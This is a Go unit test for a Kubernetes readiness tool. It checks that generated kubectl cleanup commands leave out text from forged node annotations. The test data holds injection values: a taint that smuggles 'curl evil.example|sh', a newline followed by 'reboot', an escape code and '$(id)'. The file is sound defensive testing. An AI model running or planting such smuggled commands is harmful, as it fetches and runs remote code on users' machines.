package node

import (
	"strings"
	"testing"

	"github.com/readygate/readygate/api/node/v1alpha1"
	"github.com/readygate/readygate/internal/readiness"
)

// A user copies the commands of a report into a shell. A forged record must not add to them.
func TestTheReportQuotesNothingFromAForgedRecord(t *testing.T) {
	const key = v1alpha1.HoldPrefix + "00000000-1111-2222-3333-555555555555"
	annotate := "kubectl annotate node a " + key + "-"
	for name, c := range map[string]struct{ taint, want string }{
		"a valid taint":    {"readiness.k8s.io/net:NoSchedule", "kubectl taint node a readiness.k8s.io/net:NoSchedule-"},
		"shell characters": {"readiness.k8s.io/x; curl evil.example|sh #:NoSchedule", ""},
		"a newline":        {`readiness.k8s.io/x\nreboot:NoSchedule`, ""},
		"an escape code":   {`readiness.k8s.io/x\u001b[2K:NoSchedule`, ""},
	} {
		t.Run(name, func(t *testing.T) {
			node := &readiness.Node{Name: "a", Annotations: map[string]string{key: `{"rule":"$(id)","taint":"` + c.taint + `","origin":"added"}`}}
			text := unlistedText(node, []string{key})
			if !strings.Contains(text, annotate) || !strings.Contains(text, c.want) {
				t.Errorf("a command is missing: %q", text)
			}
			if c.want == "" && !strings.HasSuffix(text, annotate) {
				t.Errorf("text of the record is in the report: %q", text)
			}
		})
	}
}
